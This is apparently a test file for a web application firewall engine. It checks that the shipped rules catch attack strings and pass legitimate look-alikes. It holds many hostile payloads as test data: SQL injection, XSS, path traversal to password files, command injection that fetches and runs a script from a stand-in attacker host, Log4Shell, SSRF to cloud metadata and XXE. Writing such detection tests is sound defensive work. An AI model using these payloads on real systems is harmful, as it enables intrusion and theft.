/**
 * The shipped rule set, category by category (attacks caught, look-alike
 * legitimate values passed), and the engine's settings: paranoia levels,
 * anomaly threshold, exclusions, user rule files and their errors.
 */
import test from 'ava';
import type { WafSettings } from '../../src/protocol/index.js';
import { WafEngine, WafError } from '../../src/waf/engine.js';
import { parseExclusion } from '../../src/waf/exclusion.js';
import { RequestParts } from '../../src/waf/request-parts.js';
import { partLabel, redactedSnippet } from '../../src/waf/redact.js';

const SETTINGS: WafSettings = { mode: 'block', paranoia: 1, threshold: 5, bodyLimit: 65536, exclusions: [], ruleFiles: [] };
const engine = new WafEngine(SETTINGS);

function scoreOf(url: string, headers: readonly string[] = [], body: { type: string; text: string } | null = null, waf = engine): { score: number; ids: number[] } {
  const parts = new RequestParts({ method: body === null ? 'GET' : 'POST', url, rawHeaders: ['Host', 'example.com', ...headers] });
  if (body !== null) parts.addBody(Buffer.from(body.text), body.type);
  const evaluation = waf.evaluate(parts);
  return { score: evaluation.score, ids: evaluation.matches.map((match) => match.id) };
}

const q = (value: string): string => `/page?v=${encodeURIComponent(value)}`;

const CATEGORIES: Record<string, { attacks: string[]; benign: string[] }> = {
  sqli: {
    attacks: ["1' or '1'='1", '1 UNION SELECT null,version()--', "admin'/*", '1;WAITFOR DELAY \'0:0:5\'--', "1' AND SLEEP(5)#", "1'||pg_sleep(5)--"],
    benign: ["O'Brien", 'union was a great select', 'rock and roll', 'select your size'],
  },
  xss: {
    attacks: ['<script>alert(1)</script>', '<img src=x onerror=prompt(1)>', '"><svg/onload=confirm(1)>', 'javascript:alert(document.cookie)', '<iframe srcdoc="<script>">'],
    benign: ['a < b > c', 'Fish & Chips', '<b>bold</b>', 'javascript:void(0)'],
  },
  lfi: {
    attacks: [
      '../../../../etc/passwd', '..%2f..%2fwindows/win.ini', '/proc/self/environ', 'php://filter/convert.base64-encode/resource=index.php', '....//....//etc/shadow',
      '/usr/local/apache/logs/access_log', '/etc/php.d/dom.ini', '/opt/apache2/conf/httpd.conf', '..2f..2f..2fetc2fpasswd', 'admin/access_log',
    ],
    benign: ['wait... what', 'docs/guide.html', 'version 1.2.3', '/home/dashboard', '/account/settings', 'my.conf file'],
  },
  rfi: { attacks: ['http://evil.example/shell.txt?', 'https://evil.example/x.php%00'], benign: ['https://example.com/docs/page.html'] },
  rce: {
    attacks: ['; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', 'a;c$IFS/etc/passwd', 'x && ping -c 3 evil', "() { :; }; /bin/bash -c 'id'",
      'net localgroup Administrators hacker /ADD', 'netsh firewall set opmode disable', 'reg add "HKLM\\System" /v x /d 0 /f', "perl -e 'print 1'", 'which perl'],
    benign: ['copy; paste', 'time; more than that', 'cats & dogs', 'the net user count', 'which perl module?'],
  },
  'code-injection': {
    attacks: ['<?php system($_GET["c"]); ?>', "require('child_process').exec('id')", 'java.lang.Runtime.getRuntime().exec("id")', '${jndi:ldap://evil.example/a}', 'O:8:"stdClass":1:{s:1:"a";}'],
    benign: ['evaluation report', 'system requirements'],
  },
  ssti: { attacks: ['{{7*7}}', '${7*7}', "{{config.__class__}}", '<#assign ex="freemarker.template.utility.Execute"?new()>', "{% import os %}"], benign: ['{{name}}', 'price: $7'] },
  ssrf: {
    attacks: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/', 'gopher://localhost:25/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[::1]/admin', 'http://2130706433/'],
    benign: ['https://example.com/image.png', 'http://10x.example.org/'],
  },
  ldap: { attacks: ['*)(uid=*))(|(uid=*', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'admin)(|(objectclass=*)', ')(cn=))', "*()|&'"], benign: ['(555) 123-4567', 'smith, john', 'f(x) (y)', 'a (b) c=d'] },
  nosql: { attacks: ['{"$gt": ""}', "true, $where: '1 == 1'", 'db.users.find({})'], benign: ['price $5', 'total: 5$'] },
  xxe: {
    attacks: [
      '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', '<xi:include href="file:///etc/passwd"/>', '<?xml version="1.0" encoding="UTF-7"?>',
      '<![CDATA[<]]>SCRIPT<![CDATA[>]]>', '<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML>', 'count(/child::node())', "x' or name()='username", '<x xmlns:php="http://php.net/xsl">',
    ],
    benign: ['<?xml version="1.0" encoding="UTF-8"?><order><id>5</id></order>', '<note><![CDATA[a < b]]></note>', 'what is your name()'],
  },
  crlf: { attacks: ['%0d%0aSet-Cookie:a=b', 'x\r\nLocation: http://evil'], benign: ['line one\nline two'] },
  'open-redirect': { attacks: [], benign: [] },
};

for (const [category, { attacks, benign }] of Object.entries(CATEGORIES)) {
  if (attacks.length === 0) continue;
  test(`${category}: attacks in a query argument are caught, look-alikes pass`, (t) => {
    for (const attack of attacks) t.true(scoreOf(q(attack)).score >= 5, attack);
    for (const value of benign) t.deepEqual(scoreOf(q(value)).ids, [], value);
  });
}

test('open redirect: obfuscated off-site targets in a redirect parameter; same-site paths pass', (t) => {
  for (const target of ['//evil.example', '/\\evil.example', 'https:/\\evil.example', '//trusted.example@evil.example', 'javascript:alert(1)', '/%09/evil.example']) {
    t.true(scoreOf(`/login?next=${encodeURIComponent(target)}`).score >= 5, target);
  }
  for (const target of ['/account', '/search?q=x', 'https://shop.example/cart']) t.deepEqual(scoreOf(`/login?next=${encodeURIComponent(target)}`).ids, [], target);
});

test('scanner user agents and protocol anomalies', (t) => {
  t.true(scoreOf('/', ['User-Agent', 'sqlmap/1.7.4#stable (https://sqlmap.org)']).score >= 5);
  t.true(scoreOf('/', ['User-Agent', 'Mozilla/5.00 (Nikto/2.1.6)']).score >= 5);
  t.deepEqual(scoreOf('/', ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36']).ids, []);
  const parts = new RequestParts({ method: 'FOOBAR', url: '/', rawHeaders: [] });
  t.true(engine.evaluate(parts).matches.some((match) => match.id === 100100), 'an unknown method');
  t.true(scoreOf('/x?a=%00b').score >= 5, 'a NUL byte');
  t.true(scoreOf(`/x?${Array.from({ length: 1001 }, (_, i) => `a${i}=1`).join('&')}`).score >= 5, 'too many arguments');
});

test('every placement: header, cookie, path, form, JSON at depth, multipart, XML body, Base64 and full-width forms', (t) => {
  const attack = '<script>alert(1)</script>';
  t.true(scoreOf('/', ['X-Anything', attack]).score >= 5, 'any header');
  t.true(scoreOf('/', ['Cookie', `a=1; pref=${encodeURIComponent(attack)}`]).score >= 5, 'a cookie');
  t.true(scoreOf(`/files/${encodeURIComponent('../../etc/passwd')}`).score >= 5, 'the path');
  t.true(scoreOf('/c', [], { type: 'application/x-www-form-urlencoded', text: `a=1&b=${encodeURIComponent(attack)}` }).score >= 5, 'a form');
  t.true(scoreOf('/c', [], { type: 'application/json', text: JSON.stringify({ a: { b: [{ c: attack }] } }) }).score >= 5, 'JSON at depth');
  t.true(scoreOf('/c', [], { type: 'application/json', text: '{"user": {"$ne": null}}' }).score >= 5, 'a JSON key');
  t.true(scoreOf('/c', [], { type: 'multipart/form-data; boundary=b', text: `--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n${attack}\r\n--b--\r\n` }).score >= 5, 'multipart');
  t.true(scoreOf('/c', [], { type: 'application/xml', text: '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>' }).score >= 5, 'XML');
  t.true(scoreOf(q(Buffer.from(attack).toString('base64'))).score >= 5, 'Base64');
  t.true(scoreOf(q('＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞')).score >= 5, 'full-width');
  t.true(scoreOf(q('\\u003cscript\\u003ealert(1)\\u003c/script\\u003e')).score >= 5, '\\u escapes');
  t.true(scoreOf(q('&lt;script&gt;alert(1)&lt;/script&gt;')).score >= 5, 'HTML entities');
  t.true(scoreOf(`/page?v=${encodeURIComponent(encodeURIComponent(attack))}`).score >= 5, 'double URL encoding');
});

test('paranoia: a rule of level 2 runs only at 2 and above', (t) => {
  const level2 = new WafEngine({ ...SETTINGS, paranoia: 2 });
  const value = q('<em>');
  t.deepEqual(scoreOf(value).ids, []);
  t.true(scoreOf(value, [], null, level2).ids.includes(240120));
  t.true(level2.rules.size > engine.rules.size);
});

test('threshold: a request below it passes with its score, at it is blocked', (t) => {
  const strict = new WafEngine({ ...SETTINGS, threshold: 10 });
  t.is(scoreOf(q('{{7*7}}'), [], null, strict).score, 5);
  t.true(scoreOf(q("1' UNION SELECT password FROM users--"), [], null, strict).score >= 10);
});

test('exclusions: a rule off everywhere, under a path, for one argument; the text form', (t) => {
  const exclusion = (text: string): WafSettings['exclusions'][number] => {
    const read = parseExclusion(text);
    if (typeof read === 'string') throw new Error(read);
    return read;
  };
  const sqlOff = new WafEngine({ ...SETTINGS, exclusions: [exclusion('230000-230999')] });
  t.false(scoreOf(q("1' or '1'='1"), [], null, sqlOff).ids.some((id) => id >= 230000 && id < 231000));
  const pathOff = new WafEngine({ ...SETTINGS, exclusions: [exclusion('240100-240110,path=/editor')] });
  t.deepEqual(scoreOf(`/editor/save?v=${encodeURIComponent('<b onclick=x()>')}`, [], null, pathOff).ids, []);
  t.true(scoreOf(q('<b onclick=x()>'), [], null, pathOff).score >= 5);
  const argOff = new WafEngine({ ...SETTINGS, exclusions: [exclusion('240100-240110,arg=body')] });
  t.deepEqual(scoreOf(`/p?body=${encodeURIComponent('<b onclick=x()>')}`, [], null, argOff).ids, []);
  t.true(scoreOf(`/p?other=${encodeURIComponent('<b onclick=x()>')}`, [], null, argOff).score >= 5);
  t.regex(JSON.stringify(parseExclusion('12,path=nope')), /neither/);
  t.regex(JSON.stringify(parseExclusion('9-3')), /ends before/);
});

test('user rules: added to the shipped ones on re2js; every problem reported with the file and id', (t) => {
  const user = new WafEngine({
    ...SETTINGS,
    ruleFiles: [{ path: 'mine.yaml', contents: [{ id: 990001, message: 'internal code name', category: 'protocol', parts: ['args'], transforms: ['fullDecode', 'lowercase'], regex: '\\bproject-x\\b' }] }],
  });
  t.true(scoreOf(q('tell me about PROJECT-X'), [], null, user).ids.includes(990001));
  const error = t.throws(
    () => new WafEngine({ ...SETTINGS, ruleFiles: [{ path: 'bad.yaml', contents: [{ id: 5, message: 'm', category: 'nope', parts: ['nowhere'], transforms: ['rot13'] }] }] }),
    { instanceOf: WafError },
  );
  const problems = error?.problems.join('\n') ?? '';
  t.regex(problems, /bad\.yaml: rule 5: category must be one of/);
  t.regex(problems, /part 'nowhere'/);
  t.regex(problems, /transform 'rot13' is unknown/);
  t.regex(problems, /needs exactly one operator/);
  const duplicate = t.throws(() => new WafEngine({ ...SETTINGS, ruleFiles: [{ path: 'dup.yaml', contents: [{ id: 230100, message: 'dup', category: 'sqli', parts: ['args'], regex: 'x' }] }] }), { instanceOf: WafError });
  t.regex(duplicate?.problems.join('\n') ?? '', /dup\.yaml: rule 230100: the id is taken by a rule of core/);
  t.throws(() => new WafEngine({ ...SETTINGS, ruleFiles: [{ path: 'b.yaml', contents: [{ id: 7, message: 'm', category: 'sqli', parts: ['args'], regex: '(' }] }] }), { instanceOf: WafError });
});

test('logged matches are truncated and secrets redacted', (t) => {
  t.is(redactedSnippet('password', "' or 1=1"), '[redacted, 8 characters]');
  t.is(redactedSnippet('authorization', 'x'), '[redacted, 1 characters]');
  t.is(redactedSnippet('q', 'a'.repeat(200)).length, 81);
  t.is(partLabel('arg-names', '\0'.repeat(5000)), `arg-names:${'\\x00'.repeat(40)}…`, 'a name is cut and escaped too');
  t.is(redactedSnippet('q', 'a\r\nb'), 'a\\x0d\\x0ab');
  const parts = new RequestParts({ method: 'GET', url: `/login?password=${encodeURIComponent("' or '1'='1")}`, rawHeaders: [] });
  const match = engine.evaluate(parts).matches[0];
  t.is(match?.part, 'args:password');
  t.regex(match?.matched ?? '', /^\[redacted/);
});
